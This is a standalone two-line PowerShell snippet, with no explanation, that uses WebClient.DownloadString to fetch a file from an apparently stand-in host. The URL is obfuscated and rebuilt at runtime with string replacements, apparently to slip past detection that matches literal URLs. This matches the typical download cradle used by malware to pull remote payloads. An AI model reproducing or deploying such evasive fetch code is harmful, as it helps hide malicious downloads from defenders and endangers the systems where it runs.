$wc = New-Object System.Net.WebClient
$wc.DownloadString(('h__p://a#example/p/x.txt' -replace '__','tt' -replace '#','.'))
